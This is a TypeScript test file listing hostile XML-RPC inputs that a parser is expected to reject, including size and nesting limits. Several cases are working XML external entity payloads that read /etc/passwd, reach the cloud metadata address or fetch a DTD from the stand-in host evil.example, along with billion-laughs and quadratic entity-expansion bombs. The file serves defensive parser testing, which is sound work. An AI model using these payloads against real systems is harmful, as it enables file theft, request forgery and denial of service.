// Attacks: document types, depth, numbers of things, size (contracts/tapatalk.md 5.3).
import type { InValue } from '../../../src/xmlrpc/value.ts';
import { bad, type Case, call, document, map, refuses, value } from './case.ts';

const ROOT = document('<params><param><value>&x;</value></param></params>').slice(21);

export const HOSTILE: readonly Case[] = [
  refuses('an internal entity', `<!DOCTYPE m [<!ENTITY x "y">]>${ROOT}`, -32700, { python: 'accepts' }),
  refuses(
    'a file as an entity',
    `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>${ROOT}`,
    -32700,
    { python: 'accepts' },
  ),
  refuses(
    'an address as an entity',
    `<!DOCTYPE m [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${ROOT}`,
    -32700,
    { python: 'accepts' },
  ),
  refuses(
    'an external document type',
    `<!DOCTYPE m SYSTEM "http://evil.example/m.dtd">${ROOT.replace('&x;', '1')}`,
    -32700,
    { python: 'accepts' },
  ),
  refuses(
    'a parameter entity',
    `<!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]>${ROOT.replace('&x;', '1')}`,
    -32700,
    { python: 'accepts' },
  ),
  refuses(
    'a billion laughs',
    `<!DOCTYPE m [<!ENTITY a "ha">${laughs(9)}]>${ROOT.replace('&x;', '&l9;')}`,
    -32700,
  ),
  refuses(
    'quadratic blow-up',
    `<!DOCTYPE m [<!ENTITY x "${'a'.repeat(5000)}">]>${ROOT.replace('&x;', '&x;'.repeat(500))}`,
    -32700,
    { python: 'accepts' },
  ),
  refuses('a document type in lower case', `<!doctype m>${ROOT.replace('&x;', '1')}`, -32700),
  refuses('a document type without an end', '<!DOCTYPE m [', -32700),
  refuses('a document type after the call', `${call('<value>1</value>')}<!DOCTYPE m>`, -32700),
  bad('a document type inside a value', '<value><!DOCTYPE m></value>', -32700),
  bad(
    'a document type inside a string',
    '<value><string>a<!DOCTYPE m [<!ENTITY x "y">]>&x;</string></value>',
    -32700,
  ),
  refuses('a document type inside a struct', call('<value><struct><!DOCTYPE m></struct></value>'), -32700),
  bad('an entity declaration on its own', '<value><!ENTITY x "y">&x;</value>', -32700),

  value('32 values inside each other', nested(31, '<value>x</value>'), inside(31, 'x')),
  bad('33 values inside each other', nested(32, '<value>x</value>'), -32600, { python: 'accepts' }),
  value('an empty value at depth 32', nested(31, '<value/>'), inside(31, '')),
  bad('an empty value at depth 33', nested(32, '<value/>'), -32600, { python: 'accepts' }),
  value('32 values, structs among them', nestedStructs(31), insideStructs(31)),
  bad('33 values, structs among them', nestedStructs(32), -32600, { python: 'accepts' }),
  bad('200 arrays inside each other', nested(200, '<value>x</value>'), -32600, { python: 'accepts' }),
  bad('opening tags without an end', '<value><array><data>'.repeat(5000), -32600),
  bad(
    'more than 20,000 tags',
    `<value><array><data>${'<value/>'.repeat(21_000)}</data></array></value>`,
    -32600,
    { python: 'accepts' },
  ),
  bad('25,000 comments', `<value>${'<!---->'.repeat(25_000)}</value>`, -32600, { python: 'accepts' }),
  bad('25,000 instructions', `<value>${'<?a?>'.repeat(25_000)}</value>`, -32600, { python: 'accepts' }),
  value(
    '18,000 empty values',
    `<value><array><data>${'<value/>'.repeat(18_000)}</data></array></value>`,
    Array.from({ length: 18_000 }, () => ''),
  ),
  bad(
    '40,000 attributes',
    `<value ${Array.from({ length: 40_000 }, (_, i) => `a${i}="1"`).join(' ')}>1</value>`,
    -32600,
    { python: 'accepts' },
  ),
  bad(
    '9 namespaces',
    `<value ${Array.from({ length: 9 }, (_, i) => `xmlns:a${i}="1"`).join(' ')}>1</value>`,
    -32600,
    { python: 'accepts' },
  ),
  bad('more than 256 KiB', `<value>${'x'.repeat(262_144)}</value>`, -32600, { python: 'accepts' }),
  value('nearly 256 KiB', `<value>${'x'.repeat(261_000)}</value>`, 'x'.repeat(261_000)),
];

/** Entities that each stand for ten of the one before. */
function laughs(count: number): string {
  let out = '<!ENTITY l0 "ha">';
  for (let i = 1; i <= count; i++) out += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
  return out;
}

function nested(levels: number, core: string): string {
  return `${'<value><array><data>'.repeat(levels)}${core}${'</data></array></value>'.repeat(levels)}`;
}

function inside(levels: number, core: InValue): InValue {
  return levels === 0 ? core : [inside(levels - 1, core)];
}

function nestedStructs(levels: number): string {
  const end = '</member></struct></value>';
  return `${'<value><struct><member><name>a</name>'.repeat(levels)}<value>x</value>${end.repeat(levels)}`;
}

function insideStructs(levels: number): InValue {
  return levels === 0 ? 'x' : map({ a: insideStructs(levels - 1) });
}
